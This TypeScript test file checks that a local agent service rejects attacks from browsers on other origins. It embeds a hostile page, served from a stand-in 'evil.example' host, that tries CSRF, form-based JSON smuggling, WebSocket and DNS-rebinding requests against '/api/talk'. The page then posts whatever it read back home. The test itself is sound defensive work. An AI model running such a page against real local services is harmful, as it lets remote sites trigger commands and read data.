import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import test from 'ava'
import { createBus } from '../test/fixtures/bus.ts'

const browser = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(file =>
  existsSync(file),
)

const flags = [
  ...[
    '--headless',
    '--no-sandbox',
    '--disable-gpu',
    '--disable-quic',
    '--no-first-run',
    '--disable-background-networking',
  ],
  ...['--disable-component-update', '--disable-sync', '--disable-dev-shm-usage', '--ignore-certificate-errors'],
]

/** A page that tries whatever a page can, and sends home what it could read. */
const page = (targets: readonly string[]): string => `<!doctype html><body><script>
const read = []
const wait = ms => new Promise(done => setTimeout(done, ms))
const tried = (name, made) => Promise.race([made.then(what => read.push([name, what]), error => read.push([name, 'error ' + error])), wait(3000)])
const body = JSON.stringify({ fromInstance: 'caller', prompt: 'run me', depth: 1 })
const one = async target => {
  const url = target + '/api/talk'
  const text = answer => answer.text().then(text => answer.type + ' ' + answer.status + ' ' + text)
  await tried(target + ' health', fetch(target + '/api/health').then(text))
  await tried(target + ' no-cors', fetch(url, { method: 'POST', mode: 'no-cors', body, headers: { 'content-type': 'text/plain' } }).then(text))
  await tried(target + ' cors', fetch(url, { method: 'POST', body, headers: { 'content-type': 'application/json', authorization: 'Bearer k' } }).then(text))
  await tried(target + ' beacon', Promise.resolve('sent ' + navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' }))))
  await tried(target + ' image', new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('image'); i.onerror = no; i.src = target + '/api/health' }))
  await tried(target + ' script', new Promise((ok, no) => { const s = document.createElement('script'); s.onload = () => ok('script'); s.onerror = no; s.src = target + '/api/health'; document.body.append(s) }))
  await tried(target + ' socket', new Promise((ok, no) => { const w = new WebSocket(target.replace('http', 'ws') + '/api/talk'); w.onopen = () => ok('open'); w.onerror = no }))
  await tried(target + ' events', new Promise((ok, no) => { const e = new EventSource(url); e.onmessage = m => ok(m.data); e.onerror = no }))
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame)
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    const form = document.createElement('form'); Object.assign(form, { method: 'POST', action: url, target: frame.name, enctype })
    const field = document.createElement('input'); field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}'; form.append(field)
    document.body.append(form); form.submit(); await wait(300)
  }
  await tried(target + ' frame', new Promise((ok, no) => { try { ok(frame.contentDocument ? 'read ' + frame.contentDocument.body.innerText : 'nothing') } catch (e) { no(e) } }))
}
const all = async () => {
  for (const target of ${JSON.stringify(targets)}) await one(target)
  await fetch('/done', { method: 'POST', body: JSON.stringify(read) })
}
all()
</script>`

const start = browser === undefined ? test.skip : test

start('a page of another origin, and one under a rebound name, starts nothing and reads nothing', async x => {
  x.timeout(120_000)
  const bus = await createBus()
  x.teardown(bus.close)
  const guarded = await bus.serve('worker', {})
  // Without a secret only the guards against browsers stand in the way.
  const open = await createBus({ secret: undefined, folder: bus.folder })
  x.teardown(open.close)
  const claims = await open.serve('claims', {})

  const told = Promise.withResolvers<readonly (readonly [string, string])[]>()
  const targets = [guarded, claims].flatMap(({ port }) => [
    `http://127.0.0.1:${port}`,
    `http://localhost:${port}`,
    `http://rebound.example:${port}`,
  ])
  const site = createServer(async (request, response) => {
    if (request.url !== '/done') {
      response.setHeader('content-type', 'text/html').end(page(targets))
      return
    }
    let text = ''
    for await (const part of request) text += part
    response.end()
    told.resolve(JSON.parse(text))
  }).listen(0, '127.0.0.1')
  await once(site, 'listening')
  x.teardown(() => site.close().closeAllConnections())
  const { port } = site.address() as AddressInfo

  const profile = mkdtempSync(path.join(tmpdir(), 'errand-browser-'))
  // The page's own name is bound to this machine as well, as after a rebinding: its own port is of one origin with it.
  const rules = 'MAP rebound.example 127.0.0.1, MAP evil.example 127.0.0.1'
  const child: ChildProcess = spawn(
    browser ?? '',
    [
      ...flags,
      `--user-data-dir=${profile}`,
      `--host-resolver-rules=${rules}`,
      '--remote-debugging-port=0',
      `http://evil.example:${port}/`,
    ],
    { stdio: 'ignore', detached: true, env: { ...process.env, HOME: profile } },
  )
  const ended = once(child, 'exit')
  x.teardown(async () => {
    if (child.pid !== undefined && child.exitCode === null) process.kill(-child.pid, 'SIGKILL')
    await ended
    rmSync(profile, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 })
  })
  const read = await told.promise
  x.log(`${read.length} attempts that came to something`)
  x.true(read.length >= targets.length * 6, JSON.stringify(read))
  for (const [what, came] of read) {
    const isNothing =
      came.startsWith('error ') ||
      came === 'opaque 0 ' ||
      came === 'nothing' ||
      came === 'read ' ||
      / beacon$/.test(what)
    x.true(isNothing, `${what}: ${came}`)
  }
  x.deepEqual(await bus.calls(), [])
})
